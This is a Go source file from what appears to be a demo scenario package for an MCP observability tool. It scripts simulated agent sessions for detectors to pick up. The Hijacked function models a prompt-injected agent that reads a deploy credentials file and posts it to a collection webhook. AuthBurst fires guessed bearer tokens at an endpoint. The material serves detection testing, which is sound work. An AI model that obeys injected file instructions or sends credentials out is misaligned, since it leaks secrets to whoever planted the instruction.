// Copyright The otelcol-mcp Authors
// SPDX-License-Identifier: Apache-2.0

package scenario

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"

	"github.com/otelcol-mcp/otelcol-mcp/demo/internal/company"
)

// AuthBurstSize is how many failed authentications AuthBurst makes: past the default threshold of the detector.
const AuthBurstSize = 8

// Ordinary is a session of everyday work; i varies what it does.
func (a Agent) Ordinary(ctx context.Context, i int) error {
	days := [][]call{
		{{"list_files", nil}, readFile("notes/standup.md"), {"list_meetings", nil}},
		{{"list_files", nil}, readFile("notes/roadmap.md")},
		{{"query_customers", map[string]any{"city": "Oslo"}}, {"list_invoices", nil}},
		{{"search_docs", nil}, readFile("src/importer.go"), {"service_status", nil}},
	}
	return a.run(ctx, days[i%len(days)]...)
}

// Hijacked is a session that reads a file with an injected instruction and does what it says: it reads the credentials
// and posts them to the address the instruction names.
func (a Agent) Hijacked(ctx context.Context) (*Wire, error) {
	wire := &Wire{}
	session, err := a.connect(ctx, wire)
	if err != nil {
		return nil, err
	}
	var read string
	for _, c := range []call{{"list_files", nil}, readFile(company.VendorNotes), readFile(company.DeployEnv)} {
		if read, err = c.on(ctx, session); err != nil {
			return wire, err
		}
	}
	if _, err = (call{"post_webhook", map[string]any{"url": company.CollectURL, "body": read}}).on(ctx, session); err != nil {
		return wire, err
	}
	return wire, session.Close()
}

// Explorer is a session that calls every tool once.
func (a Agent) Explorer(ctx context.Context) error {
	session, err := a.connect(ctx, &Wire{})
	if err != nil {
		return err
	}
	var calls []call
	for tool, err := range session.Tools(ctx, nil) {
		if err != nil {
			return fmt.Errorf("list tools: %w", err)
		}
		calls = append(calls, call{tool.Name, argumentsFor(tool.Name)})
	}
	if err := session.Close(); err != nil {
		return err
	}
	return a.run(ctx, calls...)
}

func argumentsFor(tool string) map[string]any {
	switch tool {
	case "read_file":
		return map[string]any{"path": "notes/roadmap.md"}
	case "post_webhook":
		return map[string]any{"url": "https://status.example.com/ping", "body": "ok"}
	default:
		return nil
	}
}

// AuthBurst sends requests with wrong tokens and expects each to be refused.
func AuthBurst(ctx context.Context, endpoint string) error {
	for i := range AuthBurstSize {
		body := strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"tools/list"}`)
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, endpoint, body)
		if err != nil {
			return err
		}
		req.Header.Set("Authorization", fmt.Sprintf("Bearer guess-%d", i))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			return fmt.Errorf("a wrong token was answered %s", resp.Status)
		}
	}
	return nil
}

func readFile(path string) call { return call{"read_file", map[string]any{"path": path}} }
